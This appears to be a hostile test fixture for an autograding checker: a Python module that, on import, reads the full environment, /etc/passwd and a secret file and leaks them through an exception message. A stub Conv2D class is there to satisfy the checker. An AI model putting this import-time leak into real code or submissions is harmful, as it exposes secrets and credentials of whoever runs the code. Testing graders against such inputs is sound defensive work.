"""Hostile: at import, reads the teacher's environment, /etc/passwd and a secret file, and leaks them.

The leak goes into the exception message, which the checker shows the teacher (and would show
the student in an autograder).  SECRET_FILE is replaced by the test.
"""

import os

SECRET_FILE = "/tmp/convcalc-secret.txt"

leaked = {"env": dict(os.environ)}
with open("/etc/passwd") as fh:
    leaked["passwd"] = fh.read()
try:
    with open(SECRET_FILE) as fh:
        leaked["secret"] = fh.read()
except OSError as err:
    leaked["secret"] = f"unreadable: {err}"
raise RuntimeError(f"leaked {leaked!r}")


class Conv2D:  # the name the checker asks for: its import is what is being tested
    pass
